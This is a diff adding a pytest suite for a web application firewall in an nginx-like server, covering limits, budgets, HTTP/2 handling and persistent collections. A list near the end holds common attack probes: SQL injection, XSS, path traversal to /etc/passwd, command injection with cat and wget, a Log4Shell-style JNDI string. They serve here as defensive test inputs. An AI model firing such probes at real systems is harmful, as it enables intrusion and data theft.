@@ -1,0 +1,209 @@
+"""The WAF on hostile requests, on other wires, and over the lives of workers."""
+
+import json
+import os
+import select
+import signal
+
+import pytest
+
+from harness import wait_until
+from harness.h2 import H2, post, with_fields
+
+pytestmark = pytest.mark.weir_only("nginx has no WAF of its own")
+
+FORM = [("Content-Type", "application/x-www-form-urlencoded")]
+JSON = [("Content-Type", "application/json")]
+
+
+def waf(*lines):
+    text = "SecRuleEngine On\nSecRequestBodyAccess On\n" + "\n".join(lines)
+    return "modsecurity on; modsecurity_rules '%s';" % text.replace("'", "\\'")
+
+
+DENY_EVIL = 'SecRule ARGS "@contains evil" "id:1,phase:2,deny,log"'
+AS_JSON = 'SecRule REQUEST_HEADERS:Content-Type "@contains json" "id:2,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"'
+BODY_IS_WRONG = 'SecRule REQBODY_ERROR "!@eq 0" "id:3,phase:2,deny,log,status:400"'
+FINE = "client_max_body_size 0; location / { return 200 fine; }"
+
+
+# ---- hostile bodies
+
+def test_of_100000_arguments_those_over_the_limit_do_not_reach_the_rules_and_the_request_is_refused(weir):
+    server = weir(waf("SecArgumentsLimit 1000", DENY_EVIL,
+                      'SecRule &ARGS "@ge 1000" "id:4,phase:2,deny,log,status:406"') + FINE)
+    many = b"&".join(b"a%d=b" % i for i in range(100000))
+    assert server.request("/", "POST", FORM, many).status == 406
+    assert server.request("/", "POST", FORM, b"a=b").status == 200
+
+
+def test_deep_json_is_an_error_that_rules_see(weir):
+    server = weir(waf("SecRequestBodyJsonDepthLimit 100", AS_JSON, BODY_IS_WRONG) + FINE)
+    assert server.request("/", "POST", JSON, b"[" * 90 + b"]" * 90).status == 200
+    assert server.request("/", "POST", JSON, b"[" * 100000 + b"]" * 100000).status == 400
+
+
+def test_a_form_of_many_parts_is_an_error_that_rules_see(weir):
+    server = weir(waf("SecArgumentsLimit 100000", "SecUploadFileLimit 10",
+                      'SecRule MULTIPART_STRICT_ERROR "!@eq 0" "id:5,phase:2,deny,log,status:400"') + FINE)
+    kind = [("Content-Type", "multipart/form-data; boundary=b")]
+    part = b'--b\r\nContent-Disposition: form-data; name="f"; filename="%d"\r\n\r\nx\r\n'
+    few, many = (b"".join(part % i for i in range(count)) + b"--b--\r\n" for count in (5, 5000))
+    assert server.request("/", "POST", kind, few).status == 200
+    assert server.request("/", "POST", kind, many).status == 400
+
+
+@pytest.mark.parametrize("limit, what", [("modsecurity_work_limit 100k;", "work"),
+                                         ("modsecurity_memory_limit 64k;", "memory")])
+def test_what_takes_more_than_its_budget_is_refused_and_logged(weir, limit, what):
+    server = weir(limit + waf("SecArgumentsLimit 100000", DENY_EVIL) + FINE)
+    assert server.get("/?a=b").status == 200
+    many = b"&".join(b"a%d=harmless+%%61" % i for i in range(3000))
+    assert server.request("/", "POST", FORM, many).status == 403
+    assert f"budget of {what} is used up" in server.log()
+    assert server.get("/?a=b").status == 200
+
+
+def test_where_rules_only_detect_a_budget_refuses_nothing(weir):
+    server = weir("modsecurity_memory_limit 64k;" + waf(DENY_EVIL).replace("modsecurity on", "modsecurity detection")
+                  + FINE)
+    assert server.request("/", "POST", FORM, b"a=" + b"b" * 100000).status == 200
+    assert "budget of memory is used up" in server.log()
+
+
+def test_a_coded_body_is_not_decoded_and_the_log_says_so(weir):
+    server = weir(waf(DENY_EVIL) + FINE)
+    coded = FORM + [("Content-Encoding", "gzip")]
+    assert server.request("/", "POST", coded, b"\x1f\x8b\x08" + b"\0" * 50).status == 200
+    server.wait_log("the request's body is coded with \"gzip\"")
+
+
+def test_others_are_served_while_the_worst_body_is_looked_at(weir):
+    """Without turns of 2 ms the large request's whole inspection would lie between two small ones."""
+    slow = 'SecRule ARGS "@rx (x).*\\1.*[YZ]" "id:100,phase:2,deny"'
+    server = weir(main="worker_processes 1;", http="modsecurity_prefilter off;", server=waf(
+        "SecArgumentsLimit 100000", "SecRequestBodyNoFilesLimit 10000000", slow)
+        + "modsecurity_work_limit 1000g; modsecurity_memory_limit 1000m; client_body_buffer_size 2m;" + FINE)
+    body = b"&".join(b"a%d=%s" % (i, b"xmnopqrstuv0" * 80) for i in range(300))
+    large, small = server.connect(), server.connect()
+    assert small.request("/").status == 200
+    large.send(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n"
+               b"Content-Length: %d\r\n\r\n" % len(body) + body[:-1])
+    large.wait_read()
+    assert small.request("/").status == 200
+    large.send(body[-1:])
+    served = 0
+    while not select.select([large.sock], [], [], 0)[0] and served < 5:
+        assert small.request("/").status == 200
+        served += 1
+    assert served == 5
+    assert large.read_response().status == 200
+
+
+# ---- other wires, and once each
+
+def test_http2_has_the_same_verdicts(weir):
+    server = weir(waf(DENY_EVIL, 'SecRule REQUEST_PROTOCOL "!@beginsWith HTTP/" "id:6,phase:1,deny"',
+                      'SecRule &REQUEST_HEADERS:Host "@eq 0" "id:7,phase:1,deny"') + "http2 on;" + FINE)
+    client = H2(server.connect())
+    form = post(("content-type", "application/x-www-form-urlencoded"))
+    assert client.get("/?q=good").status == 200
+    assert client.get("/?q=evil").status == 403
+    assert client.request(form, b"q=go%6Fd").status == 200
+    assert client.request(form, b"q=ev%69l").status == 403
+
+
+def test_cookies_that_http2_split_are_one_header(weir):
+    server = weir(waf('SecRule REQUEST_COOKIES:b "@streq evil" "id:1,phase:1,deny"') + "http2 on;" + FINE)
+    client = H2(server.connect())
+    assert client.request(with_fields(("cookie", "a=1"), ("cookie", "b=evil"))).status == 403
+
+
+def test_a_request_is_looked_at_once_on_its_way_through_internal_redirects(weir):
+    server = weir(waf('SecAction "id:7,phase:1,pass,log"', 'SecAction "id:8,phase:2,pass,log"') + """
+        root @dir@; index page; error_page 404 =200 /there;
+        location /there { return 200 there; }
+        location /rewritten { rewrite ^ /there last; }
+        location /tried { try_files /nothing /there; }
+    """)
+    for path in ("/rewritten", "/tried", "/nothing"):
+        assert server.get(path).text == "there", path
+    for number in (7, 8):
+        assert server.log().count(f'[id "{number}"]') == 3
+
+
+# ---- collections that outlive requests
+
+COUNTING = waf('SecAction "id:1,phase:1,pass,nolog,initcol:ip=%{REMOTE_ADDR},setvar:ip.seen=+1"',
+               'SecRule IP:seen "@gt 3" "id:2,phase:1,deny,status:429"') + FINE
+
+
+def statuses(server, count):
+    return [server.get("/").status for _ in range(count)]
+
+
+def test_collections_are_shared_by_workers_and_survive_reloads(weir):
+    server = weir(main="worker_processes 2;", server=COUNTING)
+    assert statuses(server, 2) == [200, 200]
+    server.reload()
+    assert statuses(server, 2) == [200, 429]
+
+
+def test_collections_survive_a_worker_that_is_killed(weir):
+    server = weir(main="worker_processes 1;", server=COUNTING, alerts=("exited on signal 9",))
+    assert statuses(server, 3) == [200, 200, 200]
+    before = server.workers()
+    os.kill(before[0], signal.SIGKILL)
+    wait_until(lambda: server.workers() and not set(server.workers()) & set(before))
+    assert statuses(server, 1) == [429]
+
+
+def test_a_collection_is_gone_when_nobody_touched_it_for_its_timeout(weir):
+    server = weir(COUNTING.replace("SecRuleEngine On", "SecCollectionTimeout 1\nSecRuleEngine On"))
+    assert statuses(server, 4) == [200, 200, 200, 429]
+    # Each look touches it: only one that comes later than a second after the last finds it gone.
+    wait_until(lambda: select.select([], [], [], 1.5) and server.get("/").status == 200)
+
+
+def test_a_variable_of_a_collection_expires(weir):
+    server = weir(waf(
+        'SecAction "id:1,phase:1,pass,nolog,initcol:ip=%{REMOTE_ADDR}"',
+        'SecRule IP:blocked "@eq 1" "id:2,phase:1,deny,status:429"',
+        'SecRule ARGS "@contains evil" "id:3,phase:1,deny,setvar:ip.blocked=1,expirevar:ip.blocked=1"') + FINE)
+    assert server.get("/?q=good").status == 200
+    assert server.get("/?q=evil").status == 403
+    wait_until(lambda: server.get("/?q=good").status == 200)
+
+
+# ---- the filter in front of the expressions changes no verdict
+
+PAYLOADS = [
+    "/?q=a+book", "/?q=1%27+or+%271%27=%271", "/?q=%3Cimg+src=x+onerror=alert(1)%3E", "/?q=..%2f..%2fetc%2fpasswd",
+    "/?q=%60id%60", "/?q=$(cat+/etc/passwd)", "/?q=%3C?php+system(1)", "/?q=http://evil/x.txt?", "/?q=%00",
+    "/?q=UNION%09SELECT%0a1,2", "/?a=1&a=%27--", "/?q=javascript:alert(1)", "/?q=%252e%252e%252f", "/.git/config",
+    "/?q=${jndi:ldap://x}", "/?q=;wget+http://x", "/?<script>=1", "/?q=sleep(5)", "/?q=%u003cscript%u003e", "/?q=%ff%fe",
+]
+
+
+def test_verdicts_do_not_depend_on_the_prefilter(weir):
+    def verdicts(state):
+        server = weir(http=f"modsecurity_prefilter {state};", server="""
+            modsecurity on; modsecurity_verdict_log verdicts.json;
+            modsecurity_rules 'SecRuleEngine On\nSecRequestBodyAccess On
+                Include /etc/modsecurity/crs/crs-setup.conf
+                SecAction "id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=4"
+                Include /usr/share/modsecurity-crs/rules/*.conf';
+            location / { return 200 fine; }""")
+        found = []
+        for path in PAYLOADS:
+            found.append(server.request(path, "GET", [("User-Agent", "x"), ("Accept", "*/*")]).status)
+        wait_until(lambda: server.read("verdicts.json").count("\n") == sum(status != 200 for status in found))
+        rules = [[(rule["id"], rule["sum"]) for rule in json.loads(line)["rules"]]
+                 for line in server.read("verdicts.json").splitlines()]
+        server.stop()
+        os.unlink(server.folder.file("verdicts.json"))
+        return found, rules
+
+    with_filter, without = verdicts("on"), verdicts("off")
+    assert 403 in with_filter[0]
+    assert with_filter == without
